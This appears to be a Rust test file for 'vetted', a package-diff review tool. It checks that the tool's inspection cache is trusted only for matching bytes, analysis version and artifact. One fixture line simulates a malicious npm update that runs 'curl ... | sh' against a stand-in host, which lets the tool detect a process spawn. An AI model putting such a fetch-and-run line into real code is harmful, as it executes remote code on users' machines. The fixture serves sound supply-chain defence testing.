//! The inspection cache (`docs/inspection-cache.md`): a review run again reuses what the last
//! one found of the same artifact, and shows the same; what the cache holds is trusted only for
//! an entry with the same bytes, made by this very analysis, of this very artifact.
mod gate_support;
use gate_support::{Published, Upstream};
use std::path::{Path, PathBuf};
use std::process::Command;

const OLD: &[u8] = b"const u = 'https://api.acme.example/v1';\nmodule.exports = () => fetch(u);\n";
const NEW: &[u8] = b"const u = 'https://api.acme.example/v1';\nmodule.exports = () => fetch(u);\n\
require('child_process').exec('curl -s https://drop.example/x | sh');\n";

struct Setup {
    up: std::sync::Arc<Upstream>,
    dir: tempfile::TempDir,
}

impl Setup {
    fn new() -> Setup {
        let up = Upstream::start();
        for (v, js) in [("1.0.0", OLD), ("1.1.0", NEW)] {
            let mut p = Published::new("@acme/tool", v, "2026-11-01T00:00:00Z");
            p.files = vec![("index.js".into(), js.to_vec())];
            up.publish(p);
        }
        Setup {
            up,
            dir: tempfile::tempdir().expect("tempdir"),
        }
    }

    fn cache(&self) -> PathBuf {
        self.dir.path().join("cache")
    }

    /// Run `vetted diff --json` of 1.0.0 and 1.1.0.
    fn run(&self, extra: &[&str]) -> std::process::Output {
        Command::new(env!("CARGO_BIN_EXE_vetted"))
            .args([
                "diff",
                "npm:@acme/tool@1.0.0",
                "npm:@acme/tool@1.1.0",
                "--json",
            ])
            .arg("--registry")
            .arg(self.up.url())
            .arg("--cache-dir")
            .arg(self.cache())
            .args(extra)
            .output()
            .expect("run vetted")
    }

    /// `vetted diff` of 1.0.0 and 1.1.0 as JSON.
    fn diff(&self, extra: &[&str]) -> serde_json::Value {
        let out = self.run(extra);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).expect("diff JSON")
    }

    /// The cache files, by the version whose artifact they hold.
    fn cached(&self, version: &str) -> PathBuf {
        let dir = self.cache().join("inspections");
        for e in std::fs::read_dir(&dir).expect("inspections dir").flatten() {
            if read_json(&e.path())["manifest"]["package"]["version"] == version {
                return e.path();
            }
        }
        panic!("no cached inspection of {version} in {}", dir.display());
    }
}

fn read_json(path: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(path).expect("read")).expect("json")
}

fn edit(path: &Path, f: impl FnOnce(&mut serde_json::Value)) {
    let mut v = read_json(path);
    f(&mut v);
    std::fs::write(path, serde_json::to_vec(&v).expect("json")).expect("write");
}

/// Whether the report shows the process the new build starts.
fn shows_the_spawn(report: &serde_json::Value) -> bool {
    report["review"]["behaviour_changes"]
        .as_array()
        .expect("behaviour_changes")
        .iter()
        .any(|c| c.to_string().contains("process-spawn"))
}

fn forget_behaviours(v: &mut serde_json::Value) {
    v["manifest"]["entries"]["package/index.js"]["behaviours"] = serde_json::json!([]);
}

#[test]
fn a_review_run_again_reuses_both_inspections_and_shows_the_same() {
    let s = Setup::new();
    let first = s.diff(&[]);
    assert!(shows_the_spawn(&first), "{first:#}");
    let (old, new) = (s.cached("1.0.0"), s.cached("1.1.0"));
    let second = s.diff(&[]);
    assert_eq!(first, second);
    // The second run took the new build's analysis from the cache: an entry with the same bytes
    // is trusted (the documented boundary: whoever can write the cache can do this), and
    // `--no-inspection-cache` analyses it again.
    edit(&new, forget_behaviours);
    assert!(!shows_the_spawn(&s.diff(&[])));
    assert_eq!(s.diff(&["--no-inspection-cache"]), first);
    assert!(old.is_file());
}

#[test]
fn a_cached_entry_of_other_bytes_does_not_hide_a_behaviour() {
    let s = Setup::new();
    let first = s.diff(&[]);
    edit(&s.cached("1.1.0"), |v| {
        forget_behaviours(v);
        v["manifest"]["entries"]["package/index.js"]["sha256"] =
            serde_json::json!(format!("sha256:{}", "0".repeat(64)));
    });
    assert_eq!(s.diff(&[]), first);
}

#[test]
fn a_cached_inspection_made_by_another_analysis_is_not_used() {
    let s = Setup::new();
    let first = s.diff(&[]);
    let path = s.cached("1.1.0");
    edit(&path, |v| {
        forget_behaviours(v);
        v["manifest"]["analysis"] = serde_json::json!("vetted 0.0.1 content-source 0000 js old");
    });
    assert_eq!(s.diff(&[]), first);
    // Replaced by this analysis' inspection.
    assert_ne!(
        read_json(&path)["manifest"]["analysis"],
        "vetted 0.0.1 content-source 0000 js old"
    );
}

#[test]
fn a_cached_inspection_of_another_artifact_is_not_used() {
    let s = Setup::new();
    let first = s.diff(&[]);
    // Under the new build's name, an inspection that says it is of the old artifact: it is not
    // used, not even for an entry it lists with the new bytes' digest.
    let (old, new) = (s.cached("1.0.0"), s.cached("1.1.0"));
    let old_sha512 = read_json(&old)["manifest"]["artifact"]["sha512"].clone();
    edit(&new, |v| {
        forget_behaviours(v);
        v["manifest"]["artifact"]["sha512"] = old_sha512;
    });
    assert_eq!(s.diff(&[]), first);
}

#[test]
fn a_corrupt_cache_file_is_ignored_and_replaced() {
    let s = Setup::new();
    let first = s.diff(&[]);
    let path = s.cached("1.1.0");
    std::fs::write(
        &path,
        b"{\"schema\": \"vetted.inspection-cache/v1\", \"manif",
    )
    .expect("write");
    assert_eq!(s.diff(&[]), first);
    assert_eq!(read_json(&path)["schema"], "vetted.inspection-cache/v1");
}

#[test]
fn no_inspection_cache_neither_reads_nor_writes_it() {
    let s = Setup::new();
    let report = s.diff(&["--no-inspection-cache"]);
    assert!(shows_the_spawn(&report));
    assert!(!s.cache().join("inspections").exists());
}

#[test]
fn a_cache_that_cannot_be_written_is_a_note_not_a_failure() {
    let s = Setup::new();
    std::fs::create_dir_all(s.cache()).expect("mkdir");
    // A file where the directory of inspections would go.
    std::fs::write(s.cache().join("inspections"), b"not a directory").expect("write");
    let out = s.run(&[]);
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("the inspection was not cached"), "{stderr}");
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(shows_the_spawn(&report));
}
